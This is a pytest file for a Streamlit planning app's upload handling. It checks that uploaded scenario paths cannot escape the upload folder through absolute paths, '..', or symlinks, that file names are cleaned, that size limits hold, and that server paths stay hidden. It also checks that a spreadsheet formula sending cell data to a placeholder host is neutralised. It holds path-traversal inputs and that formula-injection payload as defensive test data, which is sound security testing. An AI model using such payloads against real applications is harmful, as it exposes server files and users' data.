"""The app reads only what was uploaded, and its messages never show a server path.

An uploaded ``scenario.toml`` whose data paths are absolute, climb out with
``..``, or go through a link pointing out of the upload folder is refused with a
Chinese message naming the key (planner.app.upload, on top of
``planner.scenario.confine_paths``). Uploaded file names are cleaned and
shortened; files over the size limit of ``.streamlit/config.toml`` are refused.
"""

from __future__ import annotations

import os
import tomllib
from datetime import date
from pathlib import Path

import pytest

pytest.importorskip("streamlit")

from streamlit.testing.v1 import AppTest  # noqa: E402

from planner.app import upload  # noqa: E402

ROOT = Path(__file__).resolve().parent.parent
TINY = ROOT / "tests" / "data" / "tiny"
GEODATA = ROOT / "geodata"
VEHICLE_TYPES = ROOT / "scenarios" / "data" / "common" / "vehicle_types.csv"
TINY_FILES = ("scenario.toml", "villages.csv", "counties.geojson", "hubs.csv", "stations.csv",
              "receiving_counties.geojson", "vehicle_types.csv", "workers.csv", "factories.csv", "fleet.csv",
              "train_services.csv", "risk_calendar.csv")


def _files(**replace: str) -> dict[str, bytes]:
    """The tiny scenario as an upload; ``replace`` rewrites [data] keys of its scenario.toml."""
    files = {n: (TINY / n).read_bytes() for n in TINY_FILES}
    lines = files["scenario.toml"].decode("utf-8").splitlines()
    for key, value in replace.items():
        lines = [f'{key} = "{value}"' if ln.split("=")[0].strip() == key else ln for ln in lines]
    files["scenario.toml"] = ("\n".join(lines) + "\n").encode("utf-8")
    return files


def _use(folder: Path) -> Path:
    return upload.scenario_for_uploads(folder, {}, date(2020, 2, 14), date(2020, 3, 15), "", GEODATA, VEHICLE_TYPES)


def _no_server_path(text: str, *folders: Path) -> None:
    for f in (*folders, ROOT):
        assert str(f) not in text and os.path.realpath(f) not in text, text
    assert "uploads" not in text, text


def test_uploaded_toml_with_absolute_path_is_refused(tmp_path):
    """workers = "/…/another county's register": refused naming data.workers, without the server's paths."""
    folder = tmp_path / "up"
    upload.save_uploads(_files(workers=str(TINY / "workers.csv")), folder)
    with pytest.raises(upload.UploadError) as err:
        _use(folder)
    msg = str(err.value)
    assert "data.workers" in msg and "超出允许的文件夹" in msg
    _no_server_path(msg, folder, tmp_path)


@pytest.mark.parametrize("value", ["../../workers.csv", "../up2/workers.csv", "~/workers.csv"])
def test_uploaded_toml_climbing_out_is_refused(tmp_path, value):
    folder = tmp_path / "up"
    upload.save_uploads(_files(workers=value), folder)
    with pytest.raises(upload.UploadError, match="data.workers"):
        _use(folder)
    with pytest.raises(upload.UploadError, match="data.workers"):  # refused before any file is looked at
        upload.missing_data_files(folder / "scenario.toml", upload.upload_roots(folder, GEODATA, VEHICLE_TYPES))


def test_uploaded_toml_through_a_link_out_is_refused(tmp_path):
    """A link in the upload folder to a file elsewhere on the server is outside."""
    folder = tmp_path / "up"
    upload.save_uploads(_files(fleet="fleet-link.csv"), folder)
    os.symlink(TINY / "fleet.csv", folder / "fleet-link.csv")
    with pytest.raises(upload.UploadError, match="data.fleet"):
        _use(folder)


def test_uploaded_toml_with_road_network_outside_is_refused(tmp_path):
    folder = tmp_path / "up"
    files = _files()
    files["scenario.toml"] += b'\n[roads]\nnetwork = "/srv/osm/chongqing.osm.bz2"\n'
    upload.save_uploads(files, folder)
    with pytest.raises(upload.UploadError) as err:
        _use(folder)
    assert "roads.network" in str(err.value) and "/srv/osm" not in str(err.value)


def test_uploaded_toml_may_use_the_shipped_geodata(tmp_path):
    """Paths to the shipped geodata/ (absolute or relative) and the shipped vehicle types are allowed."""
    folder = tmp_path / "up"
    upload.save_uploads(_files(counties=str(GEODATA / "chongqing" / "counties.gpkg"),
                               vehicle_types=str(VEHICLE_TYPES)), folder)
    assert _use(folder) == folder / "scenario.toml"
    assert upload.missing_data_files(folder / "scenario.toml", upload.upload_roots(folder, GEODATA, VEHICLE_TYPES)) == []


def test_long_file_name_is_shortened_and_never_shows_the_folder(tmp_path):
    """A 300-character name is saved under a shortened name; messages show it shortened, no server path."""
    folder = tmp_path / "uploads" / "ab12"
    long_csv = "名" * 300 + ".csv"
    saved = upload.save_uploads({long_csv: b"a,b\n"}, folder)
    assert len(saved) == 1 and saved[0].parent == folder and saved[0].suffix == ".csv"
    assert len(saved[0].name) <= upload.MAX_NAME_CHARS and len(saved[0].name.encode()) <= upload.MAX_NAME_BYTES
    with pytest.raises(upload.UploadError) as err:
        upload.save_uploads({"x" * 300 + ".exe": b"x"}, folder)
    msg = str(err.value)
    assert "类型不支持" in msg and "…" in msg and len(msg) < 150
    _no_server_path(msg, folder)


def test_file_names_lose_control_characters():
    """NUL, other control characters and bidi overrides are removed from names before use."""
    assert upload.check_name("work\x00ers\x1b.csv") == "workers.csv"
    assert upload.check_name("fleet\u202e.csv") == "fleet.csv"
    assert upload.check_name("  factories.csv \n") == "factories.csv"
    with pytest.raises(upload.UploadError, match="没有文件名"):
        upload.check_name("\x00\x01")


def test_size_limit_is_refused_before_writing(tmp_path):
    """A file over the limit is refused with its size and the limit; nothing is written."""
    folder = tmp_path / "up"
    with pytest.raises(upload.UploadError) as err:
        upload.save_uploads({"fleet.csv": b"x" * 10, "workers.csv": b"x" * (3 * 2**20)}, folder, max_bytes=2**20)
    assert "workers.csv" in str(err.value) and "3.0 MB" in str(err.value) and "上限 1 MB" in str(err.value)
    assert not folder.exists()


def test_public_message_hides_server_paths(tmp_path):
    """Paths in the upload folder read as bare file names; other absolute paths keep only their last part."""
    folder = tmp_path / "uploads" / "ab12"
    text = f"{folder}/workers.csv:2:ready_date 不是日期；{ROOT}/geodata/x.gpkg；/etc/secret/passwd；速度 km/h"
    shown = upload.public_message(text, [folder, ROOT])
    assert shown == "workers.csv:2:ready_date 不是日期；geodata/x.gpkg；…/passwd；速度 km/h"


def test_config_sets_an_upload_limit():
    """.streamlit/config.toml sets server.maxUploadSize (megabytes), and Streamlit reads it."""
    import streamlit as st

    config = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text(encoding="utf-8"))
    limit = config["server"]["maxUploadSize"]
    assert isinstance(limit, int) and 1 <= limit <= 200
    if Path.cwd().resolve() == ROOT:
        assert st.get_option("server.maxUploadSize") == limit


# ------------------------------------------------------------------ in the app
@pytest.fixture()
def at(tiny_plan_dir, tmp_path, monkeypatch):
    monkeypatch.setenv("PLANNER_APP_SCENARIO", str(TINY / "scenario.toml"))
    monkeypatch.setenv("PLANNER_APP_PLAN_DIR", str(tiny_plan_dir))
    monkeypatch.setenv("PLANNER_APP_UPLOAD_DIR", str(tmp_path / "uploads"))
    app = AppTest.from_file(str(ROOT / "app.py"), default_timeout=180)
    app.run()
    app.sidebar.radio(key="page").set_value("计划").run()
    assert not app.exception
    return app


def _shown(app) -> str:
    """What the upload part says: errors, reports, the scenario caption (the page's own header names the open plan)."""
    return "\n".join([e.value for e in app.error] + [c.value for c in app.code]
                     + [c.value for c in app.caption if "情景文件" in c.value])


def test_app_refuses_uploaded_toml_reading_another_register(at, tmp_path):
    """The issue's case: an uploaded scenario pointing at a register elsewhere on the server is refused."""
    files = _files(workers=str(TINY / "workers.csv"))
    at.file_uploader(key="upload-files").set_value([(n, b, "text/plain") for n, b in files.items()]).run()
    assert not at.exception
    errors = [e.value for e in at.error]
    assert any("data.workers" in e and "超出允许的文件夹" in e for e in errors), errors
    assert not _has_button(at, "upload-validate")  # nothing to validate or plan
    _no_server_path(_shown(at), tmp_path)


def _has_button(app, key: str) -> bool:
    return any(b.key == key for b in app.button)


def test_app_long_file_name_shows_no_server_path(at, tmp_path):
    """A 300-character file name: the app goes on, every message without the uploads folder."""
    long_name = "务工人员名单" * 50 + ".csv"
    files = {n: (TINY / n).read_bytes() for n in ("factories.csv", "fleet.csv")}
    files[long_name] = (TINY / "workers.csv").read_bytes()
    at.file_uploader(key="upload-files").set_value([(n, b, "text/csv") for n, b in files.items()]).run()
    assert not at.exception
    assert any("务工人员" in e.value for e in at.error)  # workers not mapped yet
    _no_server_path(_shown(at), tmp_path)
    labels = [s.label for s in at.selectbox]
    assert any("…" in lab and len(lab) < 80 for lab in labels), labels


def test_app_refuses_a_file_over_the_limit(at, tmp_path):
    """A file over server.maxUploadSize gets a Chinese message with the limit, and is not saved."""
    import streamlit as st

    limit = int(st.get_option("server.maxUploadSize"))
    big = b"worker_id,name\n" + b"x" * (limit * 2**20)
    at.file_uploader(key="upload-files").set_value([("workers.csv", big, "text/csv")]).run()
    assert not at.exception
    assert any("超过上传上限" in e.value and f"{limit} MB" in e.value for e in at.error)
    assert not list((tmp_path / "uploads").rglob("workers.csv"))


def test_app_tables_neutralise_formula_names(tmp_path, monkeypatch):
    """The app's tables (whose toolbar downloads CSV) show a name typed as a formula with a leading quote."""
    import shutil

    import pandas as pd

    from planner.pipeline import run_plan

    scen = tmp_path / "tiny"
    shutil.copytree(TINY, scen)
    workers = pd.read_csv(scen / "workers.csv", dtype=str, keep_default_na=False)
    formula = '=HYPERLINK("http://example.invalid/?"&F2,"点我")'
    workers["name"] = formula
    workers.to_csv(scen / "workers.csv", index=False)
    plan = tmp_path / "plan"
    run_plan(scen / "scenario.toml", plan, check=False)
    monkeypatch.setenv("PLANNER_APP_SCENARIO", str(scen / "scenario.toml"))
    monkeypatch.setenv("PLANNER_APP_PLAN_DIR", str(plan))
    app = AppTest.from_file(str(ROOT / "app.py"), default_timeout=180)
    app.run()
    app.sidebar.radio(key="page").set_value("乡镇").run()
    assert not app.exception
    names = app.dataframe[0].value["姓名"]
    assert len(names) and (names == "'" + formula).all()
